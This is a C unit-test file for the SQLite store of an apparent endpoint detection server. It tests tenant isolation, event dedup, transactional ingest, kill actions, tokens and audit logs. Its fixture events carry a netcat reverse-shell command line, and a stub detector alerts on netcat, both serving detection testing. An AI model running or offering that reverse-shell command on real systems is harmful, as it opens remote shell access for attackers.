/* Unit tests of lib/store against a real SQLite database in a temp dir:
 * tenant scoping, dedup on (agent, seq), all-or-nothing batches, actions,
 * credentials and the audit log. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <jansson.h>
#include <sqlite3.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "err.h"
#include "event.h"
#include "store.h"
#include "util.h"

static const struct store_scope provider = {NULL};

struct fx {
	char dir[64];
	char path[128];
	struct store *s;
	struct store_tenant ta, tb;
	struct store_agent aa, ab;
};

static int setup(void **state)
{
	struct fx *f = calloc(1, sizeof(*f));
	assert_non_null(f);
	snprintf(f->dir, sizeof(f->dir), "/tmp/ym-store-XXXXXX");
	assert_non_null(mkdtemp(f->dir));
	snprintf(f->path, sizeof(f->path), "%s/t.db", f->dir);
	assert_int_equal(store_open_sqlite(f->path, &f->s), 0);
	assert_int_equal(store_tenant_ensure(f->s, provider, "acme", &f->ta, NULL), 0);
	assert_int_equal(store_tenant_ensure(f->s, provider, "globex", &f->tb, NULL), 0);

	util_strlcpy(f->aa.tenant_id, f->ta.id, sizeof(f->aa.tenant_id));
	assert_int_equal(util_uuid(f->aa.id), 0);
	util_strlcpy(f->aa.hostname, "web1", sizeof(f->aa.hostname));
	util_strlcpy(f->aa.cert_serial, "01", sizeof(f->aa.cert_serial));
	f->aa.enrolled_ns = util_now_ns();
	assert_int_equal(store_agent_add(f->s, (struct store_scope){f->ta.id}, &f->aa), 0);

	util_strlcpy(f->ab.tenant_id, f->tb.id, sizeof(f->ab.tenant_id));
	assert_int_equal(util_uuid(f->ab.id), 0);
	util_strlcpy(f->ab.hostname, "db1", sizeof(f->ab.hostname));
	util_strlcpy(f->ab.cert_serial, "02", sizeof(f->ab.cert_serial));
	f->ab.enrolled_ns = util_now_ns();
	assert_int_equal(store_agent_add(f->s, provider, &f->ab), 0);
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	struct fx *f = *state;
	char p[200];
	store_close(f->s);
	unlink(f->path);
	snprintf(p, sizeof(p), "%s-wal", f->path);
	unlink(p);
	snprintf(p, sizeof(p), "%s-shm", f->path);
	unlink(p);
	rmdir(f->dir);
	free(f);
	return 0;
}

/* n process_creation events with seq first..first+n-1; the caller keeps
 * the values array alive. */
static void make_events(struct event *evs, size_t n, uint64_t first, const char *image)
{
	for (size_t i = 0; i < n; i++) {
		event_init(&evs[i]);
		evs[i].seq = first + i;
		evs[i].ts_ns = 1700000000000000000ull + (first + i) * 1000;
		evs[i].category = EVCAT_PROCESS_CREATION;
		assert_int_equal(event_set_str(&evs[i], "Image", image), 0);
		assert_int_equal(
		    event_set_str(&evs[i], "CommandLine", "nc -e /bin/sh 10.0.0.1 4444"), 0);
	}
}

/* Detector used through the store's seam: raises one alert per event whose
 * Image ends in "/nc", and fails the batch on an event with Image "FAIL". */
struct det {
	unsigned calls;
	const char *last_host;
};

static int detect_nc(const struct event *ev, struct store_alert_sink *sink, void *ctx)
{
	struct det *d = ctx;
	const char *img = event_get(ev, "Image", NULL);
	static const char *const tags[] = {"attack.execution", "attack.t1059"};
	struct store_alert_in a = {"rule-nc", "Netcat started", "high", tags, 2};

	d->calls++;
	d->last_host = ev->host;
	assert_non_null(ev->tenant_id);
	assert_non_null(ev->agent_id);
	assert_string_equal(ev->product, "linux");
	if (img && strcmp(img, "FAIL") == 0)
		return YM_E_INTERNAL;
	if (img && strlen(img) >= 3 && strcmp(img + strlen(img) - 3, "/nc") == 0)
		return store_sink_alert(sink, &a);
	return 0;
}

static int count_event(const struct store_event_row *r, void *ctx)
{
	(void)r;
	(*(unsigned *)ctx)++;
	return 0;
}

static int count_alert(const struct store_alert_row *r, void *ctx)
{
	json_t *tags = json_loads(r->tags_json, 0, NULL);
	assert_non_null(tags);
	assert_true(json_is_array(tags));
	json_decref(tags);
	(*(unsigned *)ctx)++;
	return 0;
}

static int count_agent(const struct store_agent *a, void *ctx)
{
	(void)a;
	(*(unsigned *)ctx)++;
	return 0;
}

static int count_audit(const struct store_audit_row *r, void *ctx)
{
	(void)r;
	(*(unsigned *)ctx)++;
	return 0;
}

static unsigned n_events(struct store *s, struct store_scope sc)
{
	struct store_event_filter f = {NULL, NULL, -1, 0, STORE_QUERY_MAX, NULL};
	unsigned n = 0;
	assert_int_equal(store_event_query(s, sc, &f, count_event, &n), 0);
	return n;
}

static unsigned n_alerts(struct store *s, struct store_scope sc)
{
	struct store_alert_filter f = {0, STORE_QUERY_MAX};
	unsigned n = 0;
	assert_int_equal(store_alert_query(s, sc, &f, count_alert, &n), 0);
	return n;
}

static void test_dedup(void **state)
{
	struct fx *f = *state;
	struct store_scope sa = {f->ta.id};
	struct event evs[4];
	struct store_ingest_result res;
	struct store_agent a;
	struct det d = {0, NULL};

	make_events(evs, 3, 1, "/usr/bin/nc");
	assert_int_equal(store_ingest(f->s, sa, f->aa.id, "web1", evs, 3, detect_nc, &d, &res), 0);
	assert_int_equal(res.stored, 3);
	assert_int_equal(res.duplicates, 0);
	assert_int_equal(res.alerts, 3);
	assert_string_equal(d.last_host, "web1");

	/* the agent resends 2..3 with 4..5: only 4 and 5 are new, detection runs on them only */
	d.calls = 0;
	make_events(evs, 4, 2, "/usr/bin/nc");
	assert_int_equal(store_ingest(f->s, sa, f->aa.id, "web1", evs, 4, detect_nc, &d, &res), 0);
	assert_int_equal(res.stored, 2);
	assert_int_equal(res.duplicates, 2);
	assert_int_equal(res.alerts, 2);
	assert_int_equal(d.calls, 2);

	assert_int_equal(n_events(f->s, sa), 5);
	assert_int_equal(n_alerts(f->s, sa), 5);
	assert_int_equal(store_agent_get(f->s, sa, f->aa.id, &a), 0);
	assert_int_equal(a.last_seq, 5);
	assert_int_equal(a.events, 5);
	assert_true(a.last_seen_ns > 0);
	assert_string_equal(a.tenant_name, "acme");
}

static void test_failed_batch_stores_nothing(void **state)
{
	struct fx *f = *state;
	struct store_scope sa = {f->ta.id};
	struct event evs[5];
	struct store_ingest_result res = {0, 0, 0};
	struct store_agent a;
	struct det d = {0, NULL};

	/* the detector fails on the 4th event: events 1..3 and their alerts must not survive */
	make_events(evs, 5, 10, "/usr/bin/nc");
	assert_int_equal(event_set_str(&evs[3], "Image", "FAIL"), 0);
	assert_int_equal(store_ingest(f->s, sa, f->aa.id, "web1", evs, 5, detect_nc, &d, &res),
			 YM_E_INTERNAL);
	assert_int_equal(d.calls, 4);
	assert_int_equal(n_events(f->s, sa), 0);
	assert_int_equal(n_alerts(f->s, sa), 0);
	assert_int_equal(store_agent_get(f->s, sa, f->aa.id, &a), 0);
	assert_int_equal(a.last_seq, 0);
	assert_int_equal(a.events, 0);
	assert_int_equal(a.last_seen_ns, 0);

	/* an invalid event in the middle (seq 0) rolls back what came before it */
	make_events(evs, 3, 1, "/bin/ls");
	evs[2].seq = 0;
	assert_int_equal(store_ingest(f->s, sa, f->aa.id, "web1", evs, 3, NULL, NULL, &res),
			 YM_E_INVAL);
	assert_int_equal(n_events(f->s, sa), 0);

	/* the store is usable after a rollback: the same batch, fixed, goes in */
	make_events(evs, 3, 1, "/bin/ls");
	assert_int_equal(store_ingest(f->s, sa, f->aa.id, "web1", evs, 3, NULL, NULL, &res), 0);
	assert_int_equal(res.stored, 3);
}

static void test_tenant_scoping(void **state)
{
	struct fx *f = *state;
	struct store_scope sa = {f->ta.id}, sb = {f->tb.id};
	struct event evs[2];
	struct store_ingest_result res;
	struct store_agent a;
	struct store_action act, got;
	struct store_tenant t;
	uint64_t st;
	unsigned n;
	struct det d = {0, NULL};

	make_events(evs, 2, 1, "/usr/bin/nc");
	assert_int_equal(event_set_str(&evs[0], "ProcessId", "4242"), 0);
	assert_int_equal(event_set_str(&evs[0], "ProcessStartTime", "777"), 0);
	assert_int_equal(store_ingest(f->s, sa, f->aa.id, "web1", evs, 2, detect_nc, &d, &res), 0);
	make_events(evs, 2, 1, "/usr/bin/nc");
	assert_int_equal(event_set_str(&evs[1], "ProcessId", "4242"), 0);
	assert_int_equal(event_set_str(&evs[1], "ProcessStartTime", "888"), 0);
	assert_int_equal(store_ingest(f->s, sb, f->ab.id, "db1", evs, 2, detect_nc, &d, &res), 0);

	/* A's agent cannot be fed through B's scope, and nothing lands */
	make_events(evs, 2, 50, "/usr/bin/nc");
	assert_int_equal(store_ingest(f->s, sb, f->aa.id, "web1", evs, 2, detect_nc, &d, &res),
			 YM_E_NOTFOUND);

	assert_int_equal(n_events(f->s, sa), 2);
	assert_int_equal(n_events(f->s, sb), 2);
	assert_int_equal(n_events(f->s, provider), 4);
	assert_int_equal(n_alerts(f->s, sa), 2);
	assert_int_equal(n_alerts(f->s, provider), 4);

	/* explicit filters cannot reach across the scope either */
	{
		struct store_event_filter ef = {.host = "db1", .category = -1, .limit = 100};
		n = 0;
		assert_int_equal(store_event_query(f->s, sa, &ef, count_event, &n), 0);
		assert_int_equal(n, 0);
		ef.host = NULL;
		ef.agent_id = f->ab.id;
		assert_int_equal(store_event_query(f->s, sa, &ef, count_event, &n), 0);
		assert_int_equal(n, 0);
		assert_int_equal(store_event_query(f->s, sb, &ef, count_event, &n), 0);
		assert_int_equal(n, 2);
	}

	n = 0;
	assert_int_equal(store_agent_list(f->s, sa, count_agent, &n), 0);
	assert_int_equal(n, 1);
	n = 0;
	assert_int_equal(store_agent_list(f->s, provider, count_agent, &n), 0);
	assert_int_equal(n, 2);
	assert_int_equal(store_agent_get(f->s, sa, f->ab.id, &a), YM_E_NOTFOUND);
	assert_int_equal(store_agent_get(f->s, sb, f->ab.id, &a), 0);
	assert_int_equal(store_tenant_find(f->s, sa, "globex", &t), YM_E_NOTFOUND);
	assert_int_equal(store_tenant_find(f->s, sa, "acme", &t), 0);

	/* start time: each tenant sees only its own process_creation events */
	assert_int_equal(store_event_start_time(f->s, sa, f->aa.id, 4242, &st), 0);
	assert_int_equal(st, 777);
	assert_int_equal(store_event_start_time(f->s, sa, f->ab.id, 4242, &st), YM_E_NOTFOUND);
	assert_int_equal(store_event_start_time(f->s, provider, f->ab.id, 4242, &st), 0);
	assert_int_equal(st, 888);
	assert_int_equal(store_event_start_time(f->s, sa, f->aa.id, 1, &st), YM_E_NOTFOUND);

	/* actions: B's agent cannot be targeted from A's scope, nor under A's tenant id */
	memset(&act, 0, sizeof(act));
	assert_int_equal(util_uuid(act.id), 0);
	util_strlcpy(act.tenant_id, f->tb.id, sizeof(act.tenant_id));
	util_strlcpy(act.agent_id, f->ab.id, sizeof(act.agent_id));
	util_strlcpy(act.type, "kill", sizeof(act.type));
	act.pid = 4242;
	act.start_time = 888;
	util_strlcpy(act.nonce, "00112233445566778899aabbccddeeff", sizeof(act.nonce));
	util_strlcpy(act.requested_by, "token:test", sizeof(act.requested_by));
	act.requested_ns = util_now_ns();
	act.expires_s = util_now_ns() / 1000000000ull + 300;
	assert_int_equal(store_action_add(f->s, sa, &act, "{}"), YM_E_NOTFOUND);
	util_strlcpy(act.tenant_id, f->ta.id, sizeof(act.tenant_id));
	assert_int_equal(store_action_add(f->s, sa, &act, "{}"), YM_E_NOTFOUND);
	util_strlcpy(act.tenant_id, f->tb.id, sizeof(act.tenant_id));
	assert_int_equal(store_action_add(f->s, sb, &act, "{}"), 0);
	assert_int_equal(store_action_get(f->s, sa, act.id, 0, &got), YM_E_NOTFOUND);
	assert_int_equal(store_action_get(f->s, sb, act.id, 0, &got), 0);
	assert_int_equal(store_action_get(f->s, provider, act.id, 0, &got), 0);
	assert_string_equal(got.status, "queued");
}

static int collect_cmd(const char *cmd, void *ctx)
{
	util_strlcpy(ctx, cmd, 64);
	return 0;
}

static void fill_action(struct fx *f, struct store_action *act, uint64_t expires_s,
			const char *nonce)
{
	memset(act, 0, sizeof(*act));
	assert_int_equal(util_uuid(act->id), 0);
	util_strlcpy(act->tenant_id, f->ta.id, sizeof(act->tenant_id));
	util_strlcpy(act->agent_id, f->aa.id, sizeof(act->agent_id));
	util_strlcpy(act->type, "kill", sizeof(act->type));
	act->pid = 99;
	act->start_time = 5;
	util_strlcpy(act->nonce, nonce, sizeof(act->nonce));
	util_strlcpy(act->requested_by, "token:test", sizeof(act->requested_by));
	act->requested_ns = util_now_ns();
	act->expires_s = expires_s;
}

static void test_actions(void **state)
{
	struct fx *f = *state;
	struct store_scope sa = {f->ta.id}, sb = {f->tb.id};
	struct store_action act, old, got;
	uint64_t now = util_now_ns() / 1000000000ull;
	char cmd[64] = "";
	unsigned n;
	int changed;

	fill_action(f, &act, now + 300, "aa");
	assert_int_equal(store_action_add(f->s, sa, &act, "signed-1"), 0);
	/* same nonce twice is refused */
	fill_action(f, &old, now + 300, "aa");
	assert_int_equal(store_action_add(f->s, sa, &old, "signed-x"), YM_E_EXISTS);
	fill_action(f, &old, now - 1, "bb");
	assert_int_equal(store_action_add(f->s, sa, &old, "signed-old"), 0);

	/* B's scope sees no commands for A's agent */
	assert_int_equal(store_action_pending(f->s, sb, f->aa.id, now, collect_cmd, cmd, &n), 0);
	assert_int_equal(n, 0);
	assert_int_equal(store_action_pending(f->s, sa, f->aa.id, now, collect_cmd, cmd, &n), 0);
	assert_int_equal(n, 1);
	assert_string_equal(cmd, "signed-1");
	assert_int_equal(store_action_get(f->s, sa, act.id, now, &got), 0);
	assert_string_equal(got.status, "sent");
	assert_true(got.sent_ns > 0);
	assert_int_equal(store_action_get(f->s, sa, old.id, now, &got), 0);
	assert_string_equal(got.status, "expired");

	/* returned again until a result arrives */
	assert_int_equal(store_action_pending(f->s, sa, f->aa.id, now, collect_cmd, cmd, &n), 0);
	assert_int_equal(n, 1);

	/* only the addressed agent may report, and only within its tenant */
	assert_int_equal(
	    store_action_result(f->s, sb, f->ab.id, act.id, "done", "x", 1, &got, &changed),
	    YM_E_NOTFOUND);
	assert_int_equal(
	    store_action_result(f->s, provider, f->ab.id, act.id, "done", "x", 1, &got, &changed),
	    YM_E_NOTFOUND);
	assert_int_equal(
	    store_action_result(f->s, sa, f->aa.id, act.id, "bogus", "x", 1, &got, &changed),
	    YM_E_INVAL);
	assert_int_equal(
	    store_action_result(f->s, sa, f->aa.id, act.id, "done", "killed", 42, &got, &changed),
	    0);
	assert_int_equal(changed, 1);
	assert_string_equal(got.status, "done");
	assert_string_equal(got.detail, "killed");
	assert_int_equal(got.completed_ns, 42);
	assert_int_equal(
	    store_action_result(f->s, sa, f->aa.id, act.id, "done", "again", 43, &got, &changed),
	    0);
	assert_int_equal(changed, 0);
	assert_string_equal(got.detail, "killed");
	assert_int_equal(
	    store_action_result(f->s, sa, f->aa.id, act.id, "failed", "x", 44, &got, &changed),
	    YM_E_EXISTS);
	assert_int_equal(store_action_pending(f->s, sa, f->aa.id, now, collect_cmd, cmd, &n), 0);
	assert_int_equal(n, 0);
}

static void test_credentials(void **state)
{
	struct fx *f = *state;
	uint8_t h1[32], h2[32], h3[32];
	char tid[STORE_ID_LEN];
	struct store_api_token t;
	struct store_tenant again;
	int created = -1;

	memset(h1, 1, sizeof(h1));
	memset(h2, 2, sizeof(h2));
	memset(h3, 3, sizeof(h3));
	assert_int_equal(store_enrol_token_add(f->s, provider, f->ta.id, h1), 0);
	assert_int_equal(store_enrol_token_add(f->s, provider, f->ta.id, h1), YM_E_EXISTS);
	assert_int_equal(store_enrol_token_add(f->s, provider, "no-such-tenant", h2),
			 YM_E_NOTFOUND);
	assert_int_equal(store_enrol_token_add(f->s, (struct store_scope){f->ta.id}, f->ta.id, h2),
			 YM_E_AUTH);
	assert_int_equal(store_enrol_token_check(f->s, provider, h1, tid), 0);
	assert_string_equal(tid, f->ta.id);
	assert_int_equal(store_enrol_token_check(f->s, provider, h2, tid), YM_E_AUTH);

	assert_int_equal(store_api_token_add(f->s, provider, f->tb.id, "analyst", "bob", h2, &t),
			 0);
	assert_int_equal(store_api_token_add(f->s, provider, NULL, "admin", "root", h3, &t), 0);
	assert_int_equal(store_api_token_add(f->s, provider, NULL, "god", "x", h1, &t), YM_E_INVAL);
	assert_int_equal(store_api_token_check(f->s, provider, h2, &t), 0);
	assert_string_equal(t.tenant_id, f->tb.id);
	assert_string_equal(t.role, "analyst");
	assert_string_equal(t.name, "bob");
	assert_int_equal(store_api_token_check(f->s, provider, h3, &t), 0);
	assert_string_equal(t.tenant_id, "");
	assert_string_equal(t.role, "admin");
	assert_int_equal(store_api_token_check(f->s, provider, h1, &t), YM_E_AUTH);

	assert_int_equal(store_tenant_ensure(f->s, provider, "acme", &again, &created), 0);
	assert_int_equal(created, 0);
	assert_string_equal(again.id, f->ta.id);
	assert_int_equal(
	    store_tenant_ensure(f->s, (struct store_scope){f->ta.id}, "x", &again, NULL),
	    YM_E_AUTH);
}

static void test_audit(void **state)
{
	struct fx *f = *state;
	struct store_scope sa = {f->ta.id};
	struct store_audit_in a1 = {"agent:x", f->ta.id, "agent.enrolled", "x", "web1"};
	struct store_audit_in b1 = {"agent:y", f->tb.id, "agent.enrolled", "y", "db1"};
	struct store_audit_in p1 = {"server", NULL, "rules.reload", NULL, "3 loaded"};
	unsigned n;

	assert_int_equal(store_audit_add(f->s, provider, &a1), 0);
	assert_int_equal(store_audit_add(f->s, provider, &b1), 0);
	assert_int_equal(store_audit_add(f->s, provider, &p1), 0);
	/* a tenant scope can write its own rows only */
	assert_int_equal(store_audit_add(f->s, sa, &b1), YM_E_AUTH);
	assert_int_equal(store_audit_add(f->s, sa, &p1), YM_E_AUTH);
	assert_int_equal(store_audit_add(f->s, sa, &a1), 0);

	n = 0;
	assert_int_equal(store_audit_query(f->s, provider, 100, count_audit, &n), 0);
	assert_int_equal(n, 4);
	n = 0;
	assert_int_equal(store_audit_query(f->s, sa, 100, count_audit, &n), 0);
	assert_int_equal(n, 2);
	n = 0;
	assert_int_equal(store_audit_query(f->s, provider, 1, count_audit, &n), 0);
	assert_int_equal(n, 1);
	assert_int_equal(store_audit_query(f->s, provider, 0, count_audit, &n), YM_E_INVAL);
}

struct fields_check {
	int ok;
};

static int check_fields(const struct store_event_row *r, void *ctx)
{
	struct fields_check *c = ctx;
	json_error_t err;
	json_t *o = json_loads(r->fields_json, 0, &err);
	const char *v;

	assert_non_null(o);
	v = json_string_value(json_object_get(o, "CommandLine"));
	assert_non_null(v);
	/* 0xff is not UTF-8: it is kept as U+00FF */
	assert_string_equal(v, "echo \xc3\xbf ok \xe2\x82\xac");
	json_decref(o);
	c->ok = 1;
	return 0;
}

static void test_non_utf8_fields(void **state)
{
	struct fx *f = *state;
	struct store_scope sa = {f->ta.id};
	struct event ev;
	struct store_ingest_result res;
	struct store_event_filter ef = {.agent_id = f->aa.id, .category = EVCAT_PROCESS_CREATION, .limit = 10};
	struct fields_check c = {0};

	event_init(&ev);
	ev.seq = 1;
	ev.ts_ns = 1;
	ev.category = EVCAT_PROCESS_CREATION;
	assert_int_equal(event_set_str(&ev, "CommandLine", "echo \xff ok \xe2\x82\xac"), 0);
	assert_int_equal(store_ingest(f->s, sa, f->aa.id, "web1", &ev, 1, NULL, NULL, &res), 0);
	assert_int_equal(store_event_query(f->s, sa, &ef, check_fields, &c), 0);
	assert_int_equal(c.ok, 1);
}

static void test_process_guid_lookup(void **state)
{
	struct fx *f = *state;
	struct store_scope sa = {f->ta.id}, sb = {f->tb.id};
	struct event evs[3];
	struct store_ingest_result res;
	struct store_event_filter ef = {.category = -1, .limit = 10, .process_guid = "guid-2"};
	unsigned n = 0;

	make_events(evs, 3, 1, "/bin/true");
	assert_int_equal(event_set_str(&evs[0], "ProcessGuid", "guid-1"), 0);
	assert_int_equal(event_set_str(&evs[1], "ProcessGuid", "guid-2"), 0);
	assert_int_equal(event_set_str(&evs[2], "ProcessGuid", "guid-3"), 0);
	assert_int_equal(store_ingest(f->s, sa, f->aa.id, "web1", evs, 3, NULL, NULL, &res), 0);
	assert_int_equal(store_event_query(f->s, sa, &ef, count_event, &n), 0);
	assert_int_equal(n, 1);
	/* another tenant cannot find it by guid either */
	n = 0;
	assert_int_equal(store_event_query(f->s, sb, &ef, count_event, &n), 0);
	assert_int_equal(n, 0);
}

/* agent_status events keep the agent's sensor modes and drop totals */
static void test_agent_health(void **state)
{
	struct fx *f = *state;
	struct store_scope sa = {f->ta.id};
	struct event evs[4];
	struct store_ingest_result res;
	struct store_agent a;

	for (int i = 0; i < 4; i++) {
		event_init(&evs[i]);
		evs[i].seq = (uint64_t)i + 1;
		evs[i].ts_ns = 1;
		evs[i].category = EVCAT_AGENT_STATUS;
	}
	assert_int_equal(event_set_str(&evs[0], "Status", "started"), 0);
	assert_int_equal(event_set_str(&evs[0], "ProcessSensor", "bpf"), 0);
	assert_int_equal(event_set_str(&evs[0], "NetworkSensor", "sock_diag"), 0);
	/* the agent's run before this one was killed */
	assert_int_equal(event_set_str(&evs[0], "PreviousStop", "unclean"), 0);
	assert_int_equal(event_set_str(&evs[1], "Status", "drops"), 0);
	assert_int_equal(event_set_str(&evs[1], "Family", "file"), 0);
	assert_int_equal(event_set_str(&evs[1], "Drops", "5"), 0);
	assert_int_equal(event_set_str(&evs[2], "Status", "drops"), 0);
	assert_int_equal(event_set_str(&evs[2], "Family", "file"), 0);
	assert_int_equal(event_set_str(&evs[2], "Drops", "7"), 0);
	assert_int_equal(event_set_str(&evs[2], "DroppedEvents", "3"), 0);
	/* an agent cannot inject JSON paths through the family name */
	assert_int_equal(event_set_str(&evs[3], "Status", "drops"), 0);
	assert_int_equal(event_set_str(&evs[3], "Family", "x\"]'"), 0);
	assert_int_equal(event_set_str(&evs[3], "Drops", "1"), 0);
	assert_int_equal(store_ingest(f->s, sa, f->aa.id, "web1", evs, 4, NULL, NULL, &res), 0);
	assert_int_equal(res.stored, 4);
	assert_int_equal(store_agent_get(f->s, sa, f->aa.id, &a), 0);
	assert_string_equal(a.sensors, "{\"network\":\"sock_diag\",\"process\":\"bpf\"}");
	assert_string_equal(a.drops, "{\"unclean_stop\":1,\"file\":12,\"spool\":3}");
	/* a duplicate batch adds nothing */
	assert_int_equal(store_ingest(f->s, sa, f->aa.id, "web1", evs, 4, NULL, NULL, &res), 0);
	assert_int_equal(store_agent_get(f->s, sa, f->aa.id, &a), 0);
	assert_string_equal(a.drops, "{\"unclean_stop\":1,\"file\":12,\"spool\":3}");
}

static void test_reopen_keeps_data(void **state)
{
	struct fx *f = *state;
	struct store_scope sa = {f->ta.id};
	struct event evs[3];
	struct store_ingest_result res;
	struct store_agent a;
	sqlite3 *db;
	sqlite3_stmt *st;

	make_events(evs, 3, 1, "/bin/true");
	assert_int_equal(store_ingest(f->s, sa, f->aa.id, "web1", evs, 3, NULL, NULL, &res), 0);
	store_close(f->s);
	f->s = NULL;
	assert_int_equal(store_open_sqlite(f->path, &f->s), 0);
	assert_int_equal(n_events(f->s, sa), 3);
	assert_int_equal(store_agent_get(f->s, sa, f->aa.id, &a), 0);
	assert_int_equal(a.last_seq, 3);

	/* the journal is WAL and the schema version is set */
	assert_int_equal(sqlite3_open(f->path, &db), SQLITE_OK);
	assert_int_equal(sqlite3_prepare_v2(db, "PRAGMA journal_mode", -1, &st, NULL), SQLITE_OK);
	assert_int_equal(sqlite3_step(st), SQLITE_ROW);
	assert_string_equal((const char *)sqlite3_column_text(st, 0), "wal");
	sqlite3_finalize(st);
	assert_int_equal(sqlite3_prepare_v2(db, "PRAGMA user_version", -1, &st, NULL), SQLITE_OK);
	assert_int_equal(sqlite3_step(st), SQLITE_ROW);
	assert_int_equal(sqlite3_column_int(st, 0), 1);
	sqlite3_finalize(st);
	sqlite3_close(db);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test_setup_teardown(test_dedup, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_failed_batch_stores_nothing, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_tenant_scoping, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_actions, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_credentials, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_audit, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_non_utf8_fields, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_process_guid_lookup, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_agent_health, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_reopen_keeps_data, setup, teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
